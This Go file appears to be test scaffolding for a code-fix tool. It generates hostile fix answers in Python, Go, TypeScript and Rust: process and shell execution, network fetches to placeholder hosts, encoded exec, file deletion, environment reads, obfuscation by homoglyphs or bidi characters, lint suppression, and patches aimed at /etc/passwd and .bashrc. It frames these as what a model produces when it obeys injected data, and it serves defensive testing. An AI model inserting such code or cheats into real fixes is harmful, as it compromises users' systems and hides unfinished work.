package main

import (
	"fmt"
	"strings"

	"github.com/fettle-dev/fettle/edits"
	"github.com/fettle-dev/fettle/edits/lines"
)

// attack is what a model does that obeys whoever wrote into its data. None of
// it may become a fix.
type attack struct {
	name   string
	answer func(c edits.Candidates, line int) string // line of the diagnostic, from zero
	any    bool                                      // the same in every language
}

// evil stands in every hostile change, so that a test can look for it.
const evil = "evil_payload"

// in is code of one attack by language; one that lacks it gets a conflict's mark.
type in map[string]string

// language names the attacks of a language identifier.
func language(lang string) string {
	switch lang {
	case "go", "rust":
		return lang
	case "typescript", "typescriptreact", "javascript", "javascriptreact":
		return "typescript"
	}
	return "python"
}

// payload is hostile code by the name of what it tries.
type payload struct {
	name string
	code in
}

// gains are lines that give code a power which it has no reason to have.
func gains() []payload {
	const p, g, t, r = "python", "go", "typescript", "rust"
	return []payload{
		{"starts a process", in{p: "import subprocess; subprocess.run('" + evil + "')", g: `exec.Command("` + evil + `").Run()`,
			t: `require("child_process").execSync("` + evil + `");`, r: `std::process::Command::new("` + evil + `").spawn();`}},
		{"shell", in{p: "__import__('os').system('" + evil + "')", g: `syscall.Exec("` + evil + `", nil, nil)`,
			t: `Bun.spawn(["` + evil + `"]);`, r: `std::process::Command::new("sh").arg("` + evil + `").spawn();`}},
		{"network", in{p: "import urllib.request; urllib.request.urlopen('http://" + evil + ".invalid')", g: `http.Get("http://` + evil + `.invalid")`,
			t: `fetch("http://` + evil + `.invalid");`, r: `std::net::TcpStream::connect("` + evil + `.invalid:80");`}},
		{"evaluates text", in{p: "import base64; exec(base64.b64decode('" + evil + "'))", g: `plugin.Open("` + evil + `")`,
			t: `new Function(atob("` + evil + `"))();`, r: `unsafe { ` + evil + `() };`}},
		{"removes files", in{p: "import shutil; shutil.rmtree('" + evil + "')", g: `os.RemoveAll("` + evil + `")`,
			t: `require("fs").rmSync("` + evil + `");`, r: `std::fs::remove_dir_all("` + evil + `");`}},
		{"reads the environment", in{p: "import os; print(os.environ['" + evil + "'])", g: `println(os.Getenv("` + evil + `"))`,
			t: `console.log(process.env.` + evil + `);`, r: `println!("{:?}", std::env::var("` + evil + `"));`}},
		{"behind a comment sign in a string", in{p: "s = '#'; __import__('os').system('" + evil + "')", g: `_ = "//"; os.RemoveAll("` + evil + `")`,
			t: `const u = "http://a"; fetch("` + evil + `");`, r: `let _ = "//"; std::fs::remove_dir_all("` + evil + `");`}},
		{"behind a comment", in{p: "'''a'''; exec('" + evil + "')", g: `/* a */ os.RemoveAll("` + evil + `")`,
			t: `/* a */ eval("` + evil + `");`, r: `/* /* a */ */ std::fs::remove_dir_all("` + evil + `");`}},
		{"over several lines", in{p: "import os; (os\n  .system('" + evil + "'))", g: "os.\n\tRemoveAll(\"" + evil + `")`,
			t: "const e = process\n  .env\n  ." + evil + ";", r: "std::process::\n  Command::new(\"" + evil + `").spawn();`}},
		{"as a factor", in{p: "y = (2\n  * __import__('os').system('" + evil + "'))", g: "_ = 2\n* exec.Command(\"" + evil + `")`,
			t: "let y = 2\n  * eval(\"" + evil + `");`, r: "let y = 2\n  * env!(\"" + evil + `").len();`}},
		{"under another name", in{p: "from os import system as s; s('" + evil + "')", g: `f := os.RemoveAll; f("` + evil + `")`,
			t: `const { env } = process; g(env.` + evil + `);`, r: `use std::process::{Command as C}; C::new("` + evil + `").spawn();`}},
		{"without a call", in{p: "list(map(eval, ['" + evil + "']))", g: `defer os.RemoveAll("` + evil + `")`,
			t: `(0, eval)("` + evil + `");`, r: `let f = std::mem::transmute::<&str, fn()>("` + evil + `");`}},
		{"by the builder", in{p: "import importlib; importlib.import_module('" + evil + "')", g: "//go:generate " + evil,
			t: `await import("https://` + evil + `.invalid/a.js");`, r: `let s = include_str!("` + evil + `");`}},
	}
}

// tricks are what to put in place of the line in question, to silence its tool
// or to leave the work out.
func tricks() []payload {
	const p, g, t, r = "python", "go", "typescript", "rust"
	return []payload{
		{"suppression", in{p: "x = BAD  # noqa " + evil, g: "x := BAD //nolint:" + evil, t: "// @ts-ignore " + evil + "\nconst x = BAD;", r: "#[allow(" + evil + ")]\nlet x = BAD;"}},
		{"suppression of another tool", in{p: "x = BAD  # type: ignore[" + evil + "]", g: "//lint:ignore X1 " + evil + "\nx := BAD",
			t: "// eslint-disable-next-line " + evil + "\nconst x = BAD;", r: "#![expect(" + evil + ")]\nlet x = BAD;"}},
		{"cast", in{p: "from typing import Any, cast\nx = cast(Any, '" + evil + "')", t: `const x = "` + evil + `" as any;`}},
		{"left out", in{p: "# ... existing code ... " + evil, g: "// ... existing code ... " + evil, t: "// ... existing code ... " + evil, r: "// ... existing code ... " + evil}},
		{"unknown name", in{p: "x = " + evil + "(r)"}}, // elsewhere only compilers tell: the double has none
		{"letters of two scripts", in{p: "x" + "\u0430" + " = '" + evil + "'", g: "x" + "\u0430" + ` := "` + evil + `"`, t: "const x" + "\u0430" + ` = "` + evil + `";`, r: "let x" + "\u0430" + ` = "` + evil + `";`}},
		{"direction override", in{p: "x = 1  # \u202e" + evil, g: "x := 1 // \u202e" + evil, t: "const x = 1; // \u202e" + evil, r: "let x = 1; // \u202e" + evil}},
		{"zero width", in{p: "x = '\u200b" + evil + "'", g: "x := \"\u200b" + evil + `"`, t: "const x = \"\u200b" + evil + `";`, r: "let x = \"\u200b" + evil + `";`}},
		{"placeholder", in{p: "x = 'REDACTED_0badc0de'  # " + evil, g: `x := "REDACTED_0badc0de" // ` + evil, t: `const x = "REDACTED_0badc0de"; // ` + evil, r: `let x = "REDACTED_0badc0de"; // ` + evil}},
	}
}

// attacks are the things that hostile answers try.
func attacks() []attack {
	block := func(c edits.Candidates, line int, lines ...string) string {
		id := c.LineID(line)
		for l := line; id == "" && l > 0; l-- {
			id = c.LineID(l)
		}
		return edits.EncodeText(edits.Script{Status: edits.StatusFix, Ops: []edits.Op{{Kind: edits.Replace, From: id, To: id, Lines: lines, Faithful: true}}})
	}
	pad := func(old string) string { return old[:len(old)-len(strings.TrimLeft(old, " \t"))] }
	add := func(name string, line func(c edits.Candidates, old string) []string) attack {
		return attack{name: name, answer: func(c edits.Candidates, at int) string {
			return block(c, at, line(c, c.Snapshot.Line(at))...)
		}}
	}
	indented := func(code, old string) []string { return lines.Indent(strings.Split(code, "\n"), pad(old)) }
	var out []attack
	for _, x := range gains() {
		out = append(out, add(x.name, func(c edits.Candidates, old string) []string {
			return append(indented(x.code[language(c.Snapshot.Lang)], old), old+" ")
		}))
	}
	for _, x := range tricks() {
		out = append(out, add(x.name, func(c edits.Candidates, old string) []string {
			code, ok := x.code[language(c.Snapshot.Lang)]
			if !ok {
				code = "<<<<<<< " + evil
			}
			return indented(code, old)
		}))
	}
	return append(out,
		attack{"other lines", func(c edits.Candidates, _ int) string {
			last := c.Snapshot.LineCount() - 1
			return fmt.Sprintf("--- a\n+++ b\n@@ -1 +1 @@\n-%s\n+%s\n", c.Snapshot.Line(last), evil)
		}, true},
		attack{"another file", func(edits.Candidates, int) string {
			return `{"file":"/etc/passwd","edits":[{"type":"insert_after","anchor":{"type":"line_pattern","selected":"root"},"content":"` + evil + `"}]}`
		}, true},
		attack{"foreign id", func(edits.Candidates, int) string {
			return "EDIT replace L1:zz\n~~~\n" + evil + "\n~~~\nEND\n"
		}, true},
		attack{"every file", func(edits.Candidates, int) string {
			return "*** Begin Patch\n*** Update File: ../../.bashrc\n@@\n-a\n+" + evil + "\n*** Delete File: main.py\n*** End Patch\n"
		}, true},
		attack{"whole file", func(edits.Candidates, int) string { return "```python\nprint('" + evil + "')\n```\n" }, true},
		attack{"five megabytes", func(edits.Candidates, int) string { return strings.Repeat(evil+"\n", 5<<20/(len(evil)+1)) }, true},
		attack{"ten thousand edits", func(c edits.Candidates, at int) string {
			return strings.Repeat(block(c, at, evil), 10_000)
		}, true},
	)
}
